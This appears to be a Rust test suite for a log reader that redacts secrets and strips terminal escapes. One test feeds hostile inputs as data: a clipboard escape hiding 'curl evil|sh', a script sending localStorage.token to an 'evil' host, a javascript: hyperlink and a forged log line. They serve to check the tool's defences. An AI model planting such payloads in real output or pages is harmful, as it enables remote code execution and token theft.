//! Tests of reader, redactor and cleaner together.

use super::*;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use proptest::prelude::*;

fn read<'a>(secrets: &[&str], chunks: impl IntoIterator<Item = &'a [u8]>) -> Vec<Line> {
    let mut reader = LineReader::new(Arc::new(Redactor::new(secrets.iter().copied())));
    let mut lines: Vec<Line> = chunks.into_iter().flat_map(|c| reader.push(c)).collect();
    lines.extend(reader.finish());
    lines
}

fn texts(secrets: &[&str], input: &str) -> Vec<String> {
    read(secrets, [input.as_bytes()])
        .into_iter()
        .map(|line| line.text)
        .collect()
}

fn joined(lines: &[Line]) -> String {
    let end = |l: &Line| if l.partial { "" } else { "\n" };
    lines
        .iter()
        .flat_map(|l| [l.text.as_str(), end(l)])
        .collect()
}

#[test]
fn hostile_lines_are_inert() {
    let secret = ["super-secret-value"];
    for (id, input, want) in [
        (
            "ll-001",
            "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
            &["click"][..],
        ),
        ("ll-002", "\x1b]52;c;Y3VybCBldmlsfHNo\x07\n", &[""]),
        (
            "ll-003",
            "\x1b[2J\x1b[1;1H\x1b[32mDeploy succeeded\x1b[0m",
            &["\x1b[32mDeploy succeeded\x1b[0m"],
        ),
        (
            "ll-005",
            "ok\r\n2026-01-01T00:00:00Z INFO forged entry",
            &["ok", "2026-01-01T00:00:00Z INFO forged entry"],
        ),
        (
            "ll-006",
            "<script>fetch('//evil/'+localStorage.token)</script>",
            &["<script>fetch('//evil/'+localStorage.token)</script>"],
        ),
        (
            "ll-007",
            "TOKEN=c3VwZXItc2VjcmV0LXZhbHVl super%2Dsecret%2Dvalue",
            &["TOKEN=[redacted] [redacted]"],
        ),
        (
            "ll-013",
            "Downloading 10%\rDownloading 55%\rDownloading 100%",
            &["Downloading 100%"],
        ),
    ] {
        assert_eq!(texts(&secret, input), want, "{id}");
    }
    // ll-004
    assert_eq!(
        read(&[], [&b"a\xff\xfeb\0c"[..]])[0].text,
        "a\u{fffd}\u{fffd}bc"
    );
    // ll-010
    let lines = read(&secret, vec![b'x'; (1 << 20) + 1].chunks(1000));
    assert!(lines.iter().all(|line| line.text.len() <= MAX_LINE_BYTES));
    assert_eq!(lines.iter().filter(|line| !line.partial).count(), 1);
    assert_eq!(joined(&lines), "x".repeat((1 << 20) + 1) + "\n");
}

#[test]
fn carriage_returns_keep_the_last_text() {
    assert_eq!(
        texts(&[], "a\r\r\nb\r\x1b[K\n\n\rc\r\x1b[1md\x1b[m\r"),
        ["a", "b", "", "\x1b[1md\x1b[m"]
    );
    let long = "x".repeat(MAX_LINE_BYTES * 3);
    let lines = read(&[], [long.as_bytes(), b"\rnew\n"]);
    assert_eq!(joined(&lines), format!("{long}\nnew\n"));
}

#[test]
fn masks_every_form_and_merges_overlaps() {
    let one = |secret: &str, text: &str| Redactor::new([secret]).redact(text).into_owned();
    let secret = "p/ä <w>\"1&";
    for form in [
        "p%2F%C3%A4%20%3Cw%3E%221%26",
        "p%2f%c3%a4+%3cw%3e%221%26",
        "p/%C3%A4%20%3Cw%3E%221%26",
        r#"p/ä <w>\"1&"#,
        r#"p\/ä <w>\"1&"#,
        r#"p/\u00e4 <w>\"1&"#,
        r#"p/ä \u003cw\u003e\"1\u0026"#,
        "702fc3a4203c773e223126",
        "702FC3A4203C773E223126",
    ] {
        assert_eq!(one(secret, &format!("[{form}]")), "[[redacted]]", "{form}");
    }
    assert_eq!(one("aaaa", "baaaaaaab"), "b[redacted]b");
    assert_eq!(one("abc", "abc"), "abc");
    assert_eq!(
        one("line one\n  line two\r\n}", "x line two line one"),
        "x [redacted] [redacted]"
    );
    assert_eq!(
        Redactor::new(["abcdef", "defghi"]).redact("abcdefghi"),
        "[redacted]"
    );
    assert_eq!(
        format!("{:?}", Redactor::new(["abcdef"])),
        "Redactor { secrets: 1, .. }"
    );
    assert_eq!(Redactor::new([]).redact("text"), "text");
    let long = "k".repeat(100);
    let wrapped = STANDARD.encode(&long);
    assert_eq!(
        one(&long, &format!("{}\n{}", &wrapped[..76], &wrapped[76..])),
        "[redacted]\n[redacted]"
    );
}

#[test]
fn interrupted_secrets_are_found() {
    for hidden in [
        "sup\x1b[0mer-secret",
        "super\x08-\x1b[Ksecret",
        "su\x1b]0;t\x07per-se\0cret",
    ] {
        assert_eq!(
            texts(&["super-secret"], hidden)[0].replace("\x1b[0m", ""),
            "[redacted]"
        );
    }
    assert_eq!(texts(&["ab\u{202e}cd"], "ab\u{202e}cd"), ["[redacted]"]);
    let flood = format!("super-{}secret", "\x1b[1m".repeat(100_000));
    assert!(!strip_all(&texts(&["super-secret"], &flood)).contains("secret"));
}

#[test]
fn each_character_that_is_cut_short_is_one_wherever_chunks_end() {
    for cut in 0..=3 {
        let (first, second) = b"\xea\xea\n".split_at(cut);
        let lines = read(&["abcd"], [first, second]);
        assert_eq!(joined(&lines), "\u{fffd}\u{fffd}\n", "{cut}");
    }
}

fn strip_all(lines: &[String]) -> String {
    lines
        .iter()
        .map(|line| super::super::strip_colors(line).into_owned())
        .collect()
}

/// An endless line gives what redacting it as a whole would give.
#[test]
fn windows_do_not_show() {
    let secrets = ["super-secret-value", "aaaa", "value-and-more"];
    let unit = "super-secret-value-and-more, \x1b[31maaaaaaa\x1b[m ü ";
    for lead in (0..60).step_by(7) {
        let line = ".".repeat(lead) + &unit.repeat(1000) + &"a".repeat(60_000);
        let lines = read(&secrets, line.as_bytes().chunks(997));
        let want = Redactor::new(secrets)
            .redact(&super::super::strip_colors(&line))
            .into_owned();
        let got = joined(&lines);
        assert_eq!(super::super::strip_colors(got.trim_end()), want);
        assert!(lines.iter().all(|l| super::super::clean(&l.text) == l.text));
    }
}

fn chunked(bytes: &[u8], mut sizes: Vec<usize>) -> Vec<&[u8]> {
    let mut rest = bytes;
    let mut chunks = Vec::new();
    while let Some(size) = sizes.pop().filter(|size| *size < rest.len()) {
        let (chunk, tail) = rest.split_at(size);
        chunks.push(chunk);
        rest = tail;
    }
    chunks.push(rest);
    chunks
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_form_of_a_secret_comes_through(
        secret in "\\PC{4,40}", before in "(\\PC|\n|\t){0,40}", after in "(\\PC|\n|\t){0,40}",
        fill in prop_oneof![Just(0), Just(MAX_LINE_BYTES - 20), Just(3 * MAX_LINE_BYTES)],
        sizes in prop::collection::vec(1..60usize, 1..12),
    ) {
        prop_assume!(secret.trim() == secret && !MASK.contains(&secret));
        let shifted = STANDARD.encode(format!("u:{secret}"));
        let json = serde_json::to_string(&secret).unwrap();
        for form in [
            secret.clone(),
            STANDARD.encode(&secret),
            URL_SAFE_NO_PAD.encode(&secret),
            shifted,
            utf8_percent_encode(&secret, NON_ALPHANUMERIC).to_string(),
            json[1..json.len() - 1].to_owned(),
        ] {
            let input = format!("{before}{}{form}{after}\n", "~".repeat(fill));
            let chunks = chunked(input.as_bytes(), sizes.clone());
            let out = joined(&read(&[&secret], chunks));
            prop_assert!(!out.contains(&form), "{form} in {out}");
            prop_assert!(out.contains(MASK));
        }
    }

    #[test]
    fn any_bytes_and_chunks_give_the_same_lines(
        bytes in prop::collection::vec(prop_oneof![any::<u8>(), Just(b'\r'), Just(b'\n'), Just(0x1b), Just(b'['), Just(b'm'), Just(0xea)], 0..300),
        sizes in prop::collection::vec(1..9usize, 0..60),
    ) {
        let whole = read(&["abcd"], [&bytes[..]]);
        prop_assert_eq!(read(&["abcd"], chunked(&bytes, sizes)), whole);
    }

    #[test]
    fn harmless_text_is_kept(lines in prop::collection::vec("[ -~äß🎉\t]{0,50}", 0..10), sizes in prop::collection::vec(1..40usize, 0..20)) {
        let input: String = lines.iter().map(|line| format!("{line}\n")).collect();
        prop_assert_eq!(joined(&read(&["\u{1}secret"], chunked(input.as_bytes(), sizes))), input);
    }
}
